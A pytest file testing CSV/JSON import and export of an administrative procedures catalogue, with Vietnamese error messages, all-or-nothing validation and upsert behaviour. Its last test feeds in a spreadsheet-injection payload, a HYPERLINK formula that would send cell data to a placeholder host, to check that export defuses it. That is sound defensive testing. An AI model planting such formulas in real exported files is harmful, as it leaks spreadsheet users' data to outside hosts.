"""`onestop procedures import|export`: CSV (BOM or not) and JSON, all or nothing, upsert."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import select

from onestop import demo, procedures_io
from onestop.cli import main
from onestop.db import Database, make_engine
from onestop.dossiers.models import Procedure, fold

HEADER = "code,name,service_code,processing_days,fee,documents\n"


@pytest.fixture
def env(tmp_path, monkeypatch):
    """An empty-catalogue demo centre in an SQLite file, reached by the CLI."""
    monkeypatch.setenv("ONESTOP_DATA_DIR", str(tmp_path))
    monkeypatch.delenv("ONESTOP_DATABASE_URL", raising=False)
    assert run("db", "upgrade").exit_code == 0
    database = Database()
    database.engine = make_engine(f"sqlite:///{tmp_path / 'onestop.sqlite3'}")
    database.session_factory.configure(bind=database.engine)
    with database.transaction() as session:
        demo.load(session)
        session.query(Procedure).delete()
    yield tmp_path, database
    database.engine.dispose()


def run(*args: str):
    return CliRunner().invoke(main, list(args))


def catalogue(database: Database) -> dict[str, dict]:
    with database.transaction() as session:
        rows = session.scalars(select(Procedure).order_by(Procedure.id)).all()
        return {p.code: {"name": p.name, "service_id": p.service_id, "days": p.processing_days,
                         "fee": p.fee, "documents": list(p.documents), "active": p.active,
                         "search": p.search_text} for p in rows}


def write(path: Path, text: str, bom: bool = False) -> Path:
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8"))
    return path


def test_csv_with_bom_imports(env):
    tmp, database = env
    src = write(tmp / "tthc.csv", HEADER
                + "1.001193,Đăng ký khai sinh,TPHT,0,Miễn phí,Tờ khai đăng ký khai sinh|Giấy chứng sinh\n"
                + '2.000575,"Đăng ký thành lập hộ kinh doanh, cá thể",DKKD,3,"100.000 đồng",\n', bom=True)
    res = run("procedures", "import", str(src))
    assert res.exit_code == 0, res.output
    assert "2 mới" in res.output
    rows = catalogue(database)
    assert rows["1.001193"]["documents"] == ["Tờ khai đăng ký khai sinh", "Giấy chứng sinh"]
    assert rows["1.001193"]["search"] == fold("1.001193 Đăng ký khai sinh")
    assert rows["2.000575"]["name"] == "Đăng ký thành lập hộ kinh doanh, cá thể"
    assert rows["2.000575"]["days"] == 3 and rows["2.000575"]["documents"] == []


def test_json_imports_and_upserts_by_code(env):
    tmp, database = env
    items = [{"code": "1.001193", "name": "Đăng ký khai sinh", "service_code": "TPHT",
              "processing_days": 0, "fee": "Miễn phí", "documents": ["Tờ khai", "Giấy chứng sinh"]},
             {"code": "1.003003", "name": "Hòa giải tranh chấp đất đai", "service_code": "DD",
              "processing_days": 30}]
    src = tmp / "tthc.json"
    src.write_text(json.dumps(items, ensure_ascii=False), encoding="utf-8")
    assert run("procedures", "import", str(src)).exit_code == 0
    items[0]["name"] = "Đăng ký khai sinh (sửa)"
    items[1]["processing_days"] = 20
    src.write_text(json.dumps(items, ensure_ascii=False), encoding="utf-8")
    res = run("procedures", "import", str(src))
    assert res.exit_code == 0 and "0 mới, 2 cập nhật" in res.output, res.output
    rows = catalogue(database)
    assert len(rows) == 2
    assert rows["1.001193"]["name"] == "Đăng ký khai sinh (sửa)" and rows["1.003003"]["days"] == 20
    assert rows["1.003003"]["fee"] == "" and rows["1.003003"]["documents"] == []


def test_bad_rows_are_reported_by_line_and_nothing_is_imported(env):
    tmp, database = env
    ok = write(tmp / "ok.csv", HEADER + "1.1,Một,TPHT,0,,\n")
    assert run("procedures", "import", str(ok)).exit_code == 0
    before = catalogue(database)
    src = write(tmp / "bad.csv", HEADER
                + "2.1,Hai,TPHT,5,,\n"  # line 2: fine, must not be imported alone
                + ",Thiếu mã,TPHT,1,,\n"  # line 3
                + '3.1,"Tên có\nxuống dòng",TPHT,abc,,\n'  # lines 4-5: days not a number
                + "4.1,Bốn,KHONGCO,1,,\n"  # line 6: unknown field (checked after parsing)
                + "2.1,Trùng,TPHT,1,,\n"  # line 7: duplicate code
                + "5.1,Thiếu cột,TPHT\n")  # line 8
    res = run("procedures", "import", str(src))
    assert res.exit_code != 0
    expected = ("dòng 3: thiếu code", "dòng 4: processing_days", "dòng 6: không có lĩnh vực mã 'KHONGCO'",
                "dòng 7: mã 2.1 trùng với dòng 2", "dòng 8: có 3 cột")
    positions = [res.output.find(e) for e in expected]
    assert -1 not in positions and positions == sorted(positions), res.output  # all, in line order
    assert "nothing imported" in res.output
    assert catalogue(database) == before
    # the field codes are checked too, with their lines, still all or nothing
    src = write(tmp / "field.csv", HEADER + "2.1,Hai,TPHT,5,,\n6.1,Sáu,KHONGCO,1,,\n")
    res = run("procedures", "import", str(src))
    assert res.exit_code != 0 and "dòng 3: không có lĩnh vực mã 'KHONGCO'" in res.output
    assert catalogue(database) == before


def test_json_errors_have_line_numbers(env):
    tmp, database = env
    src = tmp / "bad.json"
    src.write_text('[\n  {"code": "1", "name": "Một", "service_code": "TPHT", "processing_days": 0},\n'
                   '  {"code": "2", "name": "Hai", "service_code": "TPHT",\n'
                   '   "processing_days": -1, "documents": "không phải danh sách|x", "extra": 1},\n'
                   '  {"code": 3, "name": "Ba", "service_code": "TPHT", "processing_days": true}\n]\n',
                   encoding="utf-8")
    res = run("procedures", "import", str(src))
    assert res.exit_code != 0
    assert "dòng 3: cột/khóa không biết (unknown): extra" in res.output, res.output
    assert "dòng 5: code phải là chuỗi" in res.output and "dòng 5: processing_days" in res.output
    src.write_text('[{"code": "1",}]', encoding="utf-8")
    assert "dòng 1: JSON hỏng" in run("procedures", "import", str(src)).output
    src.write_text('{"code": "1"}', encoding="utf-8")
    assert "danh sách" in run("procedures", "import", str(src)).output
    assert catalogue(database) == {}


def test_encoding_and_header_errors(env):
    tmp, _ = env
    latin = tmp / "latin.csv"
    latin.write_bytes(HEADER.encode() + "1,Đăng ký,TPHT,0,,\n".encode("cp1258", errors="replace")
                      + "2,Hòa giải,TPHT,0,,\n".encode("latin-1", errors="replace").replace(b"?", b"\xe0"))
    assert "không phải UTF-8" in run("procedures", "import", str(latin)).output
    typo = write(tmp / "typo.csv", "code,name,servicecode,processing_days\n1,Một,TPHT,0\n")
    out = run("procedures", "import", str(typo)).output
    assert "unknown): servicecode" in out and "thiếu cột/khóa (missing): service_code" in out
    assert "tệp trống" in run("procedures", "import", str(write(tmp / "empty.csv", ""))).output
    assert ".csv hoặc .json" in run("procedures", "import", str(write(tmp / "x.txt", "x"))).output
    semi = write(tmp / "semi.csv", "code;name;service_code;processing_days\n1;Một;TPHT;0\n")
    assert run("procedures", "import", str(semi)).exit_code == 0


def test_export_round_trip_and_replace(env):
    tmp, database = env
    src = write(tmp / "in.csv", HEADER
                + "1.001193,Đăng ký khai sinh,TPHT,0,Miễn phí,Tờ khai|Giấy chứng sinh\n"
                + '2.000575,"Hộ kinh doanh, cá thể",DKKD,3,"100.000 đồng",\n'
                + "1.003003,Hòa giải tranh chấp đất đai,DD,30,,Đơn đề nghị hòa giải\n")
    assert run("procedures", "import", str(src)).exit_code == 0
    before = catalogue(database)
    for name in ("out.csv", "out.json"):
        res = run("procedures", "export", str(tmp / name))
        assert res.exit_code == 0 and "3 thủ tục" in res.output, res.output
    assert (tmp / "out.csv").read_bytes().startswith(b"\xef\xbb\xbfcode,name,service_code")
    exported = json.loads((tmp / "out.json").read_text(encoding="utf-8"))
    assert exported[0] == {"code": "1.001193", "name": "Đăng ký khai sinh", "service_code": "TPHT",
                           "processing_days": 0, "fee": "Miễn phí",
                           "documents": ["Tờ khai", "Giấy chứng sinh"]}
    for name in ("out.csv", "out.json"):
        res = run("procedures", "import", str(tmp / name))
        assert res.exit_code == 0 and "0 mới, 3 cập nhật" in res.output
        assert catalogue(database) == before
    # --replace: what the file no longer lists is hidden, not deleted (dossiers refer to it)
    only = write(tmp / "only.csv", HEADER + "1.001193,Đăng ký khai sinh,TPHT,0,Miễn phí,Tờ khai\n")
    res = run("procedures", "import", str(only), "--replace")
    assert res.exit_code == 0 and "2 ngừng hiển thị" in res.output
    rows = catalogue(database)
    assert len(rows) == 3 and [c for c, r in rows.items() if r["active"]] == ["1.001193"]
    assert len(json.loads((tmp / "out.json").read_text())) == 3
    run("procedures", "export", str(tmp / "after.json"))
    assert [r["code"] for r in json.loads((tmp / "after.json").read_text())] == ["1.001193"]
    # importing a hidden one again shows it again
    assert run("procedures", "import", str(tmp / "out.json")).exit_code == 0
    assert all(r["active"] for r in catalogue(database).values())


def test_unknown_unit(env):
    tmp, _ = env
    res = run("procedures", "import", str(write(tmp / "a.csv", HEADER)), "--unit", "NOPE")
    assert res.exit_code != 0 and "NOPE" in res.output


def test_parse_functions_directly():
    rows = procedures_io.parse_csv(("\ufeff" + HEADER + "1,  Một   thủ tục ,TPHT,2,, a | |b \n").encode())
    assert rows[0].name == "Một thủ tục" and rows[0].documents == ["a", "b"] and rows[0].line == 2
    with pytest.raises(procedures_io.ProcedureImportError) as info:
        procedures_io.parse_json(b"[]")
    assert "không có thủ tục nào" in str(info.value)
    many = HEADER + "".join(f",x{i},TPHT,0,,\n" for i in range(80))
    with pytest.raises(procedures_io.ProcedureImportError) as info:
        procedures_io.parse_csv(many.encode())
    assert len(info.value.errors) == 80 and "và 30 lỗi khác" in str(info.value)


def test_export_defuses_spreadsheet_formulas_and_reads_them_back(env):
    """A name typed as ``=HYPERLINK(...)`` must not run when the CSV is opened in a
    spreadsheet; importing our own export gives the same catalogue back."""
    tmp, database = env
    src = write(tmp / "in.json", json.dumps([
        {"code": "9.000001", "name": '=HYPERLINK("http://x.example/?"&A1,"Bấm")', "service_code": "TPHT",
         "processing_days": 1, "fee": "-", "documents": ["@SUM(1+1)", "Tờ khai"]}]))
    assert run("procedures", "import", str(src)).exit_code == 0
    before = catalogue(database)
    assert run("procedures", "export", str(tmp / "out.csv")).exit_code == 0
    line = (tmp / "out.csv").read_text(encoding="utf-8-sig").splitlines()[1]
    assert line.startswith('9.000001,"\'=HYPERLINK(') and ",'-," in line and "'@SUM(1+1)" in line
    assert run("procedures", "import", str(tmp / "out.csv")).exit_code == 0
    assert catalogue(database) == before

